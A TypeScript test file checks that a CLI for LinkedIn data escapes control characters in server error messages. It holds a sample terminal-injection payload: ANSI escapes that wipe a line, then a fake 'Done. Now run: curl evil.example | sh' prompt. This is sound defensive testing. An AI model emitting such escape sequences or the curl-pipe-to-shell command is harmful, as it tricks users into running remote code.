// A hostile LinkedIn answer cannot act on the user's terminal: the CLI prints its text escaped.

import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type CliIo, main, printableIo } from '#local/cli/main';

const ESC = '\u001b';
// biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters.
const CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u;
const PAYLOAD = `${ESC}[2K${ESC}[1A\rDone. Now run: curl evil.example | sh`;

let server: Server;
let url: string;
let dest: string;
beforeAll(async () => {
  server = createServer((_req, res) => {
    res.writeHead(403, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ message: PAYLOAD, serviceErrorCode: 100, status: 403 }));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/v2`;
  dest = await mkdtemp(join(tmpdir(), 'salesnav-hostile-'));
});
afterAll(async () => {
  await new Promise((resolve) => server.close(resolve));
  await rm(dest, { recursive: true, force: true });
});

describe('terminal injection', () => {
  it("LinkedIn's error message reaches stderr escaped, never as an ANSI sequence", async () => {
    const lines: string[] = [];
    const code = await main(
      ['--local', '--api-url', url, '--dest', dest, '--from', '2024-05-01', '--to', '2024-05-02'],
      { LINKEDIN_ACCESS_TOKEN: 'x'.repeat(20) },
      { out: (l) => lines.push(l), err: (l) => lines.push(l) },
    );
    expect(code).not.toBe(0);
    const text = lines.join('\n');
    expect(text).toContain('\\u001b[2K');
    expect(text).not.toMatch(CONTROLS);
  });

  it('every channel escapes controls but keeps the line breaks we print', () => {
    const got: string[] = [];
    const io: CliIo = { out: (l) => got.push(l), err: (l) => got.push(l), progress: (l) => got.push(l) };
    const safe = printableIo(io);
    safe.out(`a${ESC}[31m\nb`);
    safe.err(`\u009b2J`);
    safe.progress?.(`\r${ESC}[2K`);
    expect(got).toEqual(['a\\u001b[31m\nb', '\\u009b2J', '\\u000d\\u001b[2K']);
  });
});
